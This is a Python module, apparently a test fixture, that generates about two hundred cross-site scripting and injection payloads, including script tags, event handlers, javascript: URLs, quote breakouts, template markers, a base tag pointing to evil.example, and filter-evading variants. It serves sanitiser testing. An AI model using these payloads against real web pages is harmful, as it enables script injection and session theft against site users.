"""Texts that would run as a script, load something or break a page that handled them carelessly."""

# Each calls `hit()` in one way or another, or asks for an address of its own.
CALL = "hit()"
TAGS = [
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script>",
    '<iframe srcdoc="<script>{0}</script>">',
    "<a href=javascript:{0}>x</a>",
    "<b onmouseover={0}>x</b>",
    "<style>*{{background:url(/hit)}}",
    "<link rel=stylesheet href=/hit>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<math href=javascript:{0}>x",
    "<details open ontoggle={0}>",
    "<object data=javascript:{0}>",
    "<video><source onerror={0}>",
    "<body onload={0}>",
    "<input autofocus onfocus={0}>",
    "<form action=javascript:{0}>",
    "<template><script>{0}",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "--><script>{0}</script>",
    "]]><script>{0}</script>",
]
BREAKING = [
    "{}",
    "'",
    '"',
    "`",
    "\\",
    "</script>",
    "&lt;b&gt;",
    "&#60;b&#62;",
    "${{{0}}}",
    "{{{{{0}}}}}",
    "{{ $name }}",
    "{{html}}",
]
QUOTES = [
    '" onfocus={0} autofocus x="',
    "' onclick={0} '",
    "`onload={0}`",
    "javascript:{0}",
    "';{0};//",
    '";{0};//',
    "*/{0}/*",
]


def all_payloads() -> list[str]:
    """Some two hundred: each as it is, in capitals, and with what fools simple filters."""
    plain = [text.format(CALL) for text in TAGS + QUOTES] + [text.format(CALL) for text in BREAKING]
    upper = [text.replace("script", "ScRiPt").replace("on", "oN") for text in plain]
    slashes = [
        text.replace("<img ", "<img/").replace("<svg ", "<svg/").replace(" on", "/on") for text in plain
    ]
    doubled = [text.replace("<script>", "<scr<script>ipt>") for text in plain]
    mixed = [f"x{text}y" for text in plain]
    entities = [text.replace("<", "&lt;").replace(CALL, "&#104;it()") for text in plain]
    open_ended = [text.rstrip(">") for text in plain]
    return list(dict.fromkeys([*plain, *upper, *slashes, *doubled, *mixed, *entities, *open_ended]))
